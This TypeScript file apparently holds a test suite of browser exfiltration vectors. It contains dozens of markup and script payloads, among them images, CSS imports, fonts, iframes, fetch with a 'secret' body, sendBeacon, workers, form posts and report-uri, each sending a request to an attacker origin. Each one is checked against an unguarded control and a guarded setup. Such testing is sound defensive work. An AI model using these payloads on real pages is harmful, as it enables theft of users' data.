import { markup, out, script, wentOut, type Attack, type Engine, type Lab, type Place } from '../attack.ts';

/** Leaks by markup alone, by a name each. `u` makes an address at the attacker's origin. */
type Leak = (u: (file?: string) => string, place: Place) => string;

const MARKUP: Record<string, Leak> = {
  'an image': (u) => `<img src="${u()}">`,
  'an image set': (u) => `<img srcset="${u()} 1x">`,
  'a picture source': (u) => `<picture><source srcset="${u()}"><img></picture>`,
  'an image input': (u) => `<input type="image" src="${u()}">`,
  'a body background': (u) => `<table background="${u()}"><td>x</table>`,
  'an SVG image': (u) => `<svg><image href="${u()}" width="1" height="1"/></svg>`,
  'an SVG filter image': (u) =>
    `<svg width="9" height="9"><filter id="f"><feImage href="${u()}"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`,
  'a CSS background': (u) => `<p style="background: url(${u()})">x</p>`,
  'a CSS cursor, mask and list image': (u) =>
    `<style>li { list-style-image: url(${u()}); cursor: url(${u()}), auto; mask-image: url(${u()}) }</style><li>x</li>`,
  'a CSS import': (u) => `<style>@import url(${u('a.css')});</style>`,
  'a CSS attribute selector': (u) =>
    `<style>input[value^=s] { background: url(${u()}) }</style><input value="secret">`,
  'a style sheet': (u) => `<link rel="stylesheet" href="${u('a.css')}">`,
  'a font': (u) =>
    `<style>@font-face { font-family: leak; src: url(${u('a.woff2')}) } p { font-family: leak }</style><p>text</p>`,
  'a script': (u) => `<script src="${u('a.js')}"></script>`,
  'a module script': (u) => `<script type="module" src="${u('a.js')}"></script>`,
  'a frame': (u) => `<iframe src="${u('a.html')}"></iframe>`,
  'a frame in a frame of its own': (u) => `<iframe srcdoc="<img src=${u()}>"></iframe>`,
  'an object': (u) => `<object data="${u('a.html')}"></object>`,
  'an embed': (u) => `<embed src="${u('a.html')}">`,
  'a video': (u) => `<video src="${u('a.mp4')}" preload="auto" autoplay muted></video>`,
  'a video poster': (u) => `<video poster="${u()}"></video>`,
  'an audio source': (u) => `<audio preload="auto" autoplay muted><source src="${u('a.mp3')}"></audio>`,
  'a text track': (u) =>
    `<video crossorigin src="data:video/mp4,"><track default kind="captions" src="${u('a.vtt')}"></video><script>document.querySelector('track').track.mode = 'showing'</script>`,
  'a prefetch link': (u) => `<link rel="prefetch" href="${u()}">`,
  'a preload link': (u) => `<link rel="preload" as="image" href="${u()}">`,
  'a preloaded module': (u) => `<link rel="modulepreload" href="${u('a.js')}">`,
  'an icon link': (u) => `<link rel="icon" href="${u()}">`,
  'a manifest link': (u) => `<link rel="manifest" href="${u('a.txt')}">`,
  'a prerender link': (u) => `<link rel="prerender" href="${u('a.html')}">`,
  'speculation rules': (u) =>
    `<script type="speculationrules">{"prefetch":[{"urls":["${u('a.html')}"]}],"prerender":[{"urls":["${u('b.html')}"]}]}</script>`,
  'a base address': (_, place) => `<base href="${out(place, 'base', '')}"><img src="a.gif">`,
  'a refresh': (u) => `<meta http-equiv="refresh" content="0;url=${u('a.none')}">`,
};

/** Leaks by script. `out(via, file)` makes an address. */
const SCRIPTS: Record<string, string> = {
  'an Image': 'new Image().src = out("leak");',
  fetch: 'await fetch(out("leak", "a.txt"));',
  'fetch without CORS, kept alive':
    'await fetch(out("leak", "a.txt"), { mode: "no-cors", keepalive: true, method: "POST", body: "secret" });',
  'an XMLHttpRequest':
    'const x = new XMLHttpRequest(); x.open("POST", out("leak", "a.txt")); x.send("secret"); await wait(50);',
  'a beacon': 'navigator.sendBeacon(out("leak", "a.txt"), "secret");',
  'a WebSocket': 'new WebSocket(out("leak", "a.txt").replace("http", "ws"));',
  'an EventSource': 'new EventSource(out("leak", "a.events"));',
  'a dynamic import': 'await import(out("leak", "a.js"));',
  'a style sheet made by script':
    'const s = new CSSStyleSheet(); s.replaceSync("body { background: url(" + out("leak") + ") }"); document.adoptedStyleSheets = [s];',
  'a font made by script': 'await new FontFace("f", "url(" + out("leak", "a.woff2") + ")").load();',
  'a worker from a blob':
    'new Worker(URL.createObjectURL(new Blob(["fetch(" + JSON.stringify(out("leak", "a.txt")) + ")"]))); await wait(100);',
  'a worker from a data address':
    'new Worker("data:text/javascript,fetch(" + JSON.stringify(out("leak", "a.txt")) + ")"); await wait(100);',
  'a worker that imports':
    'new Worker(URL.createObjectURL(new Blob(["importScripts(" + JSON.stringify(out("leak", "a.js")) + ")"]))); await wait(100);',
  'a shared worker':
    'new SharedWorker(URL.createObjectURL(new Blob(["fetch(" + JSON.stringify(out("leak", "a.txt")) + ")"]))); await wait(100);',
  'a service worker':
    'await navigator.serviceWorker.register(at.host + "/sw.js?" + encodeURIComponent(out("leak", "a.txt")), { scope: "/" + at.key });',
  'a worklet': 'await CSS.paintWorklet.addModule(out("leak", "a.js"));',
  'an audio worklet': 'await new AudioContext().audioWorklet.addModule(out("leak", "a.js"));',
  'a blob page':
    'const f = document.createElement("iframe"); f.src = URL.createObjectURL(new Blob(["<img src=" + out("leak") + ">"], { type: "text/html" })); document.body.append(f);',
  'a data page':
    'const f = document.createElement("iframe"); f.src = "data:text/html,<img src=" + out("leak") + ">"; document.body.append(f);',
  'a javascript page':
    'const f = document.createElement("iframe"); f.src = "javascript:\'<img src=" + out("leak") + ">\'"; document.body.append(f);',
  'an empty frame written to':
    'const f = document.createElement("iframe"); document.body.append(f); f.contentDocument.write("<img src=" + out("leak") + ">");',
  'a form post':
    'const f = document.createElement("form"); f.method = "post"; f.action = out("leak", "a.none"); f.innerHTML = "<input name=s value=secret>"; document.body.append(f); f.submit();',
  'a form into a frame':
    'document.body.insertAdjacentHTML("beforeend", "<iframe name=sink></iframe><form target=sink></form>"); const f = document.querySelector("form"); f.action = out("leak", "a.none"); f.submit();',
  'leaving for it': 'location = out("leak", "a.none");',
  'the ping of a link':
    'document.body.insertAdjacentHTML("beforeend", "<a href=#x>x</a>"); launched(); await wait(50); const a = document.querySelector("a"); a.ping = out("leak", "a.txt"); a.click();',
  'a report':
    'new ReportingObserver(() => 0).observe(); document.head.insertAdjacentHTML("beforeend", "<meta http-equiv=Content-Security-Policy content=\\"img-src \'none\'; report-uri " + out("leak", "a.txt") + "\\">"); new Image().src = "/none.gif";',
};

const everywhere = (reason: string): Record<Engine, string> => ({
  chromium: reason,
  firefox: reason,
  webkit: reason,
});

/** What an engine does not do for anybody. */
const CANNOT: Record<string, Partial<Record<Engine, string>>> = {
  'a manifest link': everywhere('fetched when a page is installed, not by these browsers here'),
  'the ping of a link': { firefox: 'off unless asked for' },
  'a worklet': { firefox: 'no paint worklets', webkit: 'no paint worklets' },
  'a service worker': { webkit: 'its driven sessions register none' },
  'a prefetch link': { webkit: 'not heeded' },
  'an icon link': everywhere('fetched for the page of a tab only'),
  'a prerender link': everywhere('not heeded any more'),
  'speculation rules': everywhere('heeded in the page of a tab only, if at all'),
  'a report': everywhere('reports are not sent for a policy in markup'),
};

const via = (name: string): string => encodeURIComponent(name.replaceAll(' ', '-'));

const leak = (name: string, app: Attack['app']): Attack => ({
  name: `leak by ${name}`,
  app: app!,
  control: async (lab: Lab) => lab.bare(),
  guarded: (lab) => lab.bridge(),
  harm: wentOut,
  ...(CANNOT[name] && { cannot: CANNOT[name] }),
});

export const exfiltrate: readonly Attack[] = [
  ...Object.entries(MARKUP).map(([name, make]) =>
    leak(name, (place) => markup(make((file) => out(place, via(name), file), place))),
  ),
  ...Object.entries(SCRIPTS).map(([name, code]) => leak(name, () => script(code))),
];
